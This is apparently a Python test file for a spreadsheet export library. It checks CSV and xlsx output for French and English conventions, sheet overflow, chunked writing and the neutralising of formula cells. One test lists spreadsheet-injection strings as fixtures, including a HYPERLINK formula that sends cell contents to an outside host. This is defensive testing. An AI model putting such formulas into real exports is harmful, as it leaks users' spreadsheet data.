"""A list exported as CSV or xlsx reads as Excel expects it in the organization's language: byte order
mark, separators, decimal marks, dates in the organization's zone, amounts; hostile cells do not run."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from python_calamine import CalamineWorkbook

from ecoute.lib.exports import Column, ColumnKind, conventions_for, csv_chunks, workbook_file
from ecoute.lib.formula_safe import FormulaSafeWorkbookWriter

PARIS = ZoneInfo("Europe/Paris")
COLUMNS = [
    Column("Nom"),
    Column("Achats", ColumnKind.INTEGER),
    Column("Valeur", ColumnKind.MONEY, currency="EUR"),
    Column("Dernier achat", ColumnKind.DATE),
    Column("Part", ColumnKind.DECIMAL, decimals=1),
]
# 23:30 UTC on 31 March is already 1 April in Paris: the day the organization saw.
ROWS: list[list[Any]] = [
    ["Zoé N’Guessan", 1234, Decimal("1249.90"), datetime(2026, 3, 31, 23, 30, tzinfo=UTC), 0.25],
    ["Loïc", None, Decimal("-15"), None, None],
    ["Société « Hélène »; et fils", 0, Decimal("0.5"), date(2025, 12, 24), 12.0],
]


def _csv(language: str, rows: list[list[Any]] = ROWS) -> bytes:
    return b"".join(csv_chunks(rows, COLUMNS, conventions_for(language), PARIS))


def _workbook(language: str, rows: list[list[Any]] = ROWS) -> bytes:
    handle = workbook_file(rows, COLUMNS, conventions_for(language), PARIS, "Clients")
    with handle:
        return bytes(handle.read())


def _sheet(data: bytes, index: int = 0) -> list[list[Any]]:
    return list(CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(index).to_python())


def _number_formats(data: bytes) -> list[str]:
    styles = zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    return [code.replace("&quot;", '"') for code in re.findall(r'formatCode="([^"]*)"', styles)]


def test_a_french_csv_has_a_bom_semicolons_decimal_commas_and_french_dates() -> None:
    # When the list is written for a French organization
    data = _csv("fr")

    # Then it starts with a byte order mark, splits on ";", and writes numbers and days the French way
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [
        ["Nom", "Achats", "Valeur (€)", "Dernier achat", "Part"],
        ["Zoé N’Guessan", "1234", "1249,90", "01/04/2026", "0,3"],
        ["Loïc", "", "-15,00", "", ""],
        ["Société « Hélène »; et fils", "0", "0,50", "24/12/2025", "12,0"],
    ]
    assert b"\r\n" in data


def test_an_english_csv_has_a_bom_commas_decimal_points_and_iso_dates() -> None:
    data = _csv("en")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=","))
    assert rows[1:3] == [
        ["Zoé N’Guessan", "1234", "1249.90", "2026-04-01", "0.3"],
        ["Loïc", "", "-15.00", "", ""],
    ]
    assert rows[3][-2:] == ["2025-12-24", "12.0"]


@pytest.mark.parametrize(
    ("language", "money", "day"),
    [("fr", '#,##0.00\\ "€"', "dd/mm/yyyy"), ("en", '"€"#,##0.00', "yyyy-mm-dd")],
)
def test_a_workbook_holds_numbers_and_dates_in_the_languages_formats(
    language: str, money: str, day: str
) -> None:
    # When the list is written as xlsx
    data = _workbook(language)

    # Then numbers are numbers and days are dates (the organization's), text is text
    rows = _sheet(data)
    assert rows[0] == ["Nom", "Achats", "Valeur (€)", "Dernier achat", "Part"]
    assert rows[1] == ["Zoé N’Guessan", 1234, 1249.9, date(2026, 4, 1), 0.25]
    assert rows[2] == ["Loïc", "", -15.0, "", ""]
    assert rows[3][3] == date(2025, 12, 24)
    # shown with the language's money and date formats
    assert {money, day, "#,##0.0"} <= set(_number_formats(data))


def test_formula_cells_are_neutralised_in_both_formats_and_negative_amounts_stay_numbers() -> None:
    # Given rows whose text a spreadsheet would run
    hostile = ['=HYPERLINK("http://x.example/?d="&A1,"voir")', "+33 6 12 34 56 78", "@SUM(A1)", "-x", "\t=1"]
    rows: list[list[Any]] = [[text, 1, Decimal("-15.00"), None, None] for text in hostile]

    # When they are exported as CSV and as xlsx
    in_csv = list(csv.reader(io.StringIO(_csv("fr", rows).decode("utf-8-sig"), newline=""), delimiter=";"))
    in_sheet = _sheet(_workbook("fr", rows))

    # Then each text starts with an apostrophe in both, and the refund is the number −15
    assert [row[0] for row in in_csv[1:]] == ["'" + text for text in hostile]
    assert [row[0] for row in in_sheet[1:]] == ["'" + text for text in hostile]
    assert {row[2] for row in in_csv[1:]} == {"-15,00"}
    assert {row[2] for row in in_sheet[1:]} == {-15.0}
    # and the workbook holds no formula at all
    sheet = zipfile.ZipFile(io.BytesIO(_workbook("fr", rows))).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


def test_a_workbook_longer_than_a_sheet_goes_on_in_another_sheet_under_the_same_headers() -> None:
    # Given a writer whose sheets hold three rows (Excel's hold 1,048,576)
    target = io.BytesIO()
    writer = FormulaSafeWorkbookWriter(target, ["N°", "Nom"], ["0", None], "Clients: [tous]", sheet_rows=3)

    # When five rows are written
    writer.writerows([[n, f"Client {n}"] for n in range(5)])
    writer.close()

    # Then they are spread over three sheets, each under the headers, named without Excel's forbidden signs
    book = CalamineWorkbook.from_filelike(io.BytesIO(target.getvalue()))
    assert book.sheet_names == ["Clients   tous", "Clients   tous (2)", "Clients   tous (3)"]
    assert [book.get_sheet_by_index(i).to_python() for i in range(3)] == [
        [["N°", "Nom"], [0, "Client 0"], [1, "Client 1"]],
        [["N°", "Nom"], [2, "Client 2"], [3, "Client 3"]],
        [["N°", "Nom"], [4, "Client 4"]],
    ]


def test_a_long_csv_is_sent_in_pieces_as_it_is_written() -> None:
    # Given ten thousand rows
    rows = ([f"Client {n}", n, Decimal(n), None, None] for n in range(10_000))

    # When the CSV is written
    pieces = list(csv_chunks(rows, COLUMNS, conventions_for("fr"), PARIS))

    # Then it leaves in several pieces, none far larger than one chunk, that add up to every row
    assert len(pieces) > 3
    assert max(len(piece) for piece in pieces) < 80 * 1024
    assert b"".join(pieces).decode("utf-8-sig").count("\r\n") == 10_001


def test_a_text_longer_than_an_excel_cell_is_cut_with_a_mark_in_the_workbook_and_whole_in_the_csv() -> None:
    # Given a note longer than the 32,767 characters an Excel cell holds, and one exactly that long
    longest = "b" * 32_767
    rows: list[list[Any]] = [["a" * 40_000, 1, None, None, None], [longest, 2, None, None, None]]

    # When the list is exported as xlsx and as CSV
    in_sheet = _sheet(_workbook("fr", rows))
    in_csv = list(csv.reader(io.StringIO(_csv("fr", rows).decode("utf-8-sig"), newline=""), delimiter=";"))

    # Then the workbook's cell is cut to what Excel holds, ending with a mark that says text is missing
    assert in_sheet[1][0] == "a" * 32_766 + "…"
    # and a text that fits is kept whole; the CSV, which has no such limit, keeps both whole
    assert in_sheet[2][0] == longest
    assert [row[0] for row in in_csv[1:]] == ["a" * 40_000, longest]
